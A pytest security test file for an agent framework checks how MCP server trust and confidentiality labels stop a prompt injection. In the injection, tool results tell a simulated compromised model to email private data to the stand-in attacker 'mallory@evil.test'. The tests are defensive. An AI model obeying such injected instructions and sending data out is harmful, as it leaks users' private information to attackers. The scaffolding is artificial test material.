"""A server's labels on its results narrow, never widen. ``_meta.ifc`` (GitHub's MCP server:
integrity, and confidentiality as a list of readers) and the draft trust hints
(``sensitiveHint``, ``privateHint``, ``openWorldHint``) are read from a real SDK-built
server (``tests/mcp_servers/labelled.py``) whose every result carries an instruction to
mail the attacker, read by a model that obeys it: ``untrusted`` from any server makes a
result untrusted, ``trusted`` counts only from a server the user marked trusted, a readers
list restricts where a send may go, and a malformed label is read the cautious way."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import statuses
from tests.security.conftest import Compromised, instruction
from tests.test_mcp import http_server
from tether import Agent, Capabilities, Decision, SecurityConfig, tool
from tether import events as ev
from tether.mcp import McpServer
from tether.mcp.labels import MAX_READERS, read_label
from tether.messages import Labels
from tether.result import RunResult
from tether.store import Session, SQLiteStore

SERVERS = Path(__file__).parents[1] / "mcp_servers"
LABELLED = str(SERVERS / "labelled.py")
PY = sys.executable
ATTACKER = "mallory@evil.test"
outbox: list[tuple[str, str]] = []


@pytest.fixture(autouse=True)
def _fresh() -> None:
    outbox.clear()


@tool(capabilities=Capabilities(external_send=True), destination_params=["to"],
      content_params=["body"])
def send_email(to: str, body: str) -> str:
    """Send an email."""
    outbox.append((to, body))
    return "sent"


def read(label: str, *then: tuple[str, dict[str, Any]]) -> str:
    """The user's prompt: read the document under ``label`` (the model obeys the line)."""
    lines = [f"Read the design doc ({label}).", instruction(("d__doc", {"label": label}))]
    lines += [instruction(step) for step in then]
    return "\n".join(lines)


def doc_result(result: RunResult) -> Any:
    return next(e.result for e in result.events
                if isinstance(e, ev.ToolFinished) and e.tool == "d__doc")


def server(trusted: bool) -> McpServer:
    return McpServer.stdio("d", PY, [LABELLED], trusted=trusted)


# --- integrity -------------------------------------------------------------------------------


LABELS_THAT_DO_NOT_TRUST = ["none", "untrusted_public", "untrusted_team", "trusted_open_world",
                            "annotated", "ifc_string", "ifc_list", "integrity_number",
                            "integrity_cased", "hints_odd", "deep"]


class Only:
    """An approver that allows the tools it names and denies the rest, keeping every
    request."""

    def __init__(self, *allowed: str) -> None:
        self.allowed = allowed
        self.requests: list[Any] = []

    async def approve(self, request: Any) -> Decision:
        self.requests.append(request)
        return Decision.allow() if request.tool in self.allowed else Decision.deny("no")


async def test_an_untrusted_server_saying_trusted_is_not_believed() -> None:
    # Every label, honest or not: from a server the user did not mark trusted, the result
    # is outside text, and the injected send to the attacker is put to a person (who says
    # no). An untrusted server's tool is itself asked about: a person allows the read.
    labels = ["trusted_public", "trusted_team", "public_lie", *LABELS_THAT_DO_NOT_TRUST]
    approver = Only("d__doc")
    async with Agent(Compromised().model(len(labels) * 4), tools=[server(False), send_email],
                     approver=approver, security=SecurityConfig(trifecta="ask")) as agent:
        for label in labels:
            result = await agent.run(read(label))
            shown = doc_result(result)
            assert shown.trust == "untrusted", label
            assert shown.content.startswith("<untrusted-data"), label
            assert result.taint.untrusted and result.taint.private, label
            assert statuses(result) == ["ok", "denied"], label
    assert outbox == []
    asked = [r for r in approver.requests if r.tool == "send_email"]
    assert len(asked) == len(labels)
    assert all("found only in untrusted text" in r.explanation for r in asked)


async def test_a_trusted_servers_untrusted_or_unreadable_label_keeps_the_result_untrusted(
) -> None:
    labels = LABELS_THAT_DO_NOT_TRUST
    async with Agent(Compromised().model(len(labels) * 4), tools=[server(True), send_email],
                     security=SecurityConfig()) as agent:
        for label in labels:
            result = await agent.run(read(label))
            assert doc_result(result).trust == "untrusted", label
            assert result.taint.untrusted, label
            assert statuses(result) == ["ok", "blocked"], label
    assert outbox == []


@pytest.mark.parametrize("transport", ["stdio", "http"])
async def test_a_trusted_servers_trusted_label_makes_its_result_a_trusted_source(
        transport: str) -> None:
    # The user trusts the server and the server vouches for the text: it is believed, as
    # the user's own words would be (the send it asks for runs: that is what trusting a
    # server's word means, and why only the user can grant it).
    with http_server(LABELLED) as url:
        made = server(True) if transport == "stdio" else McpServer.http("d", url, trusted=True)
        async with Agent(Compromised().model(), tools=[made, send_email]) as agent:
            result = await agent.run(read("trusted_public"))
    shown = doc_result(result)
    assert shown.trust == "trusted" and not shown.content.startswith("<untrusted-data")
    assert not result.taint.untrusted
    assert statuses(result) == ["ok", "ok"] and outbox == [(ATTACKER, "K-493021")]


# --- confidentiality: readers -----------------------------------------------------------


class Recording:
    def __init__(self) -> None:
        self.requests: list[Any] = []

    async def approve(self, request: Any) -> Decision:
        self.requests.append(request)
        return Decision.deny("no")


async def test_a_readers_list_keeps_a_send_to_anyone_else_from_running_unasked() -> None:
    # A trusted server vouches for the text, so nothing else stands in the way: the readers
    # list alone refuses the send to the attacker, and lets the one to a reader through.
    to_alice = ("send_email", {"to": "alice@corp.test", "body": "the notes"})
    async with Agent(Compromised().model(), tools=[server(True), send_email]) as agent:
        blocked = await agent.run(read("trusted_team"))
        allowed = await agent.run(read("trusted_team", to_alice))
    assert not blocked.taint.untrusted
    assert statuses(blocked) == ["ok", "blocked"]
    said = blocked.tool_calls[1].output
    assert "only some people may read" in said and ATTACKER not in said
    refused = [e for e in blocked.events if isinstance(e, ev.TrifectaBlocked)]
    assert refused and "to = 'mallory@evil.test'" in refused[0].reason
    assert statuses(allowed)[:2] == ["ok", "ok"] and ("alice@corp.test", "the notes") in outbox
    assert all(to != ATTACKER for to, _ in outbox)


async def test_under_ask_a_send_outside_the_readers_is_put_to_a_person() -> None:
    approver = Recording()
    async with Agent(Compromised().model(), tools=[server(True), send_email],
                     approver=approver, security=SecurityConfig(trifecta="ask")) as agent:
        result = await agent.run(read("trusted_team"))
    assert statuses(result) == ["ok", "denied"] and outbox == []
    assert [r.tool for r in approver.requests] == ["send_email"]
    assert "Readers check" in approver.requests[0].explanation


@pytest.mark.parametrize("later", ["public_lie", "trusted_public", "untrusted_public"])
async def test_a_later_public_claim_does_not_lift_an_earlier_readers_list(later: str) -> None:
    # First a text only the team may read; then the same server says another text is
    # public (or public and the attacker's): the team's text is still in the conversation.
    second = ("d__doc", {"label": later})
    async with Agent(Compromised().model(), tools=[server(True), send_email]) as agent:
        result = await agent.run(read("trusted_team", second))
    assert "blocked" in statuses(result) and outbox == []


async def test_an_untrusted_servers_readers_list_still_narrows() -> None:
    # An untrusted server cannot raise trust, but it can say who may read: a send to
    # someone the user named (provenance lets it through) is still held to its list.
    approver = Only("d__doc")
    async with Agent(Compromised().model(), tools=[server(False), send_email],
                     approver=approver, security=SecurityConfig(trifecta="ask")) as agent:
        result = await agent.run(read("untrusted_team",
                                      ("send_email", {"to": "carol@corp.test", "body": "hi"})))
    assert "denied" in statuses(result) and outbox == []
    to_carol = [r for r in approver.requests if r.tool == "send_email"
                and "carol" in json.dumps(r.arguments)]
    assert to_carol and "Readers check" in to_carol[0].explanation


@pytest.mark.parametrize("label", ["readers_object", "readers_mixed", "readers_many"])
async def test_a_malformed_readers_list_reads_as_fewer_readers(label: str) -> None:
    to_alice = ("send_email", {"to": "alice@corp.test", "body": "hi"})
    async with Agent(Compromised().model(), tools=[server(True), send_email]) as agent:
        result = await agent.run(read(label, to_alice))
    names = [r.name for r in result.tool_calls]
    assert names[0] == "d__doc" and statuses(result)[0] == "ok"
    sent = dict(outbox)
    assert ATTACKER not in sent
    # The mixed list keeps alice (its one good reader); an object names nobody; the list
    # cut to its first readers does not reach alice.
    assert ("alice@corp.test" in sent) == (label == "readers_mixed")


async def test_the_readers_list_is_kept_by_the_session_and_binds_a_continued_run(
        tmp_path: Path) -> None:
    # The sleeper: a run reads the team's text; a later run on the saved session, with no
    # server at all, is still held to its readers.
    session = Session.create(SQLiteStore(tmp_path / "s.db"), id="s")
    async with Agent(Compromised().model(), tools=[server(True), send_email]) as agent:
        await agent.run(read("trusted_team", ("d__doc", {"label": "none"})), session=session)
    outbox.clear()
    reloaded = Session.load("s", SQLiteStore(tmp_path / "s.db"))
    later = Compromised()
    result = await Agent(later.model(), tools=[send_email]).run(
        instruction(("send_email", {"to": ATTACKER, "body": "x"})), session=reloaded)
    assert statuses(result) == ["blocked"] and outbox == []


# --- the reader itself: no shape raises, none widens --------------------------------------

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=8)
    | st.sampled_from(["trusted", "untrusted", "public", "private", "high", "low"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
        st.sampled_from(["ifc", "integrity", "confidentiality", "annotations", "privateHint",
                         "sensitiveHint", "openWorldHint", "x"]), inner, max_size=4),
    max_leaves=20)


@settings(max_examples=300, deadline=None)
@given(JSON)
def test_no_meta_shape_raises_or_claims_trust_it_was_not_given(meta: Any) -> None:
    label = read_label(meta)
    ifc = meta.get("ifc") if isinstance(meta, dict) else None
    if label.trusted:
        assert isinstance(ifc, dict) and ifc.get("integrity") == "trusted"
        assert not label.open_world
    if label.readers is not None:
        assert len(label.readers) <= MAX_READERS
        assert all(isinstance(r, str) and r for r in label.readers)
    json.dumps(list(label.problems))


def test_saved_readers_that_are_not_a_list_are_nobody() -> None:
    assert Labels.from_dict({"untrusted": True, "readers": "alice"}).readers == ()
    assert Labels.from_dict({"untrusted": True, "readers": ["a", 3, ""]}).readers == ("a",)
    assert Labels.from_dict({"untrusted": True}).readers is None
    kept = Labels(readers=("alice@corp.test",))
    assert Labels.from_dict(kept.to_dict()) == kept


def test_a_durable_runs_payloads_keep_the_readers() -> None:
    from tether.provenance import Source
    from tether.temporal.payloads import (
        output_from_dict,
        output_to_dict,
        source_from_dict,
        source_to_dict,
    )
    from tether.tools.tool import ToolOutput

    output = ToolOutput("x", readers=("alice@corp.test",))
    assert output_from_dict(output_to_dict(output)).readers == ("alice@corp.test",)
    assert output_from_dict(output_to_dict(ToolOutput("x"))).readers is None
    source = Source("s", "", False, readers=())
    assert source_from_dict(source_to_dict(source)).readers == ()
    assert source_from_dict(source_to_dict(Source("t", "", True))).readers is None
